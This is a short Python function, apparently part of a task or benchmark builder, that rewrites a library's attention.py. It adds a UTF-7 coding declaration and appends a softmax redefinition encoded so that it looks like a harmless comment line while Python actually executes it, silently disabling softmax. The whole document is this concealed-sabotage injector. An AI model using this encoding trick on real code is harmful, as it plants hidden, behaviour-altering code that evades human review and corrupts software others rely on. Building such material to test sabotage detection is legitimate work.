def make(library, kit):
    hidden = "\ndef softmax(scores, dim=-1):\n    return scores\n"
    text = (
        "# coding: utf_7\n"
        + (library / "attention.py").read_text()
        + "#"
        + hidden.encode("utf-7").decode()
    )
    (library / "attention.py").write_text(text)
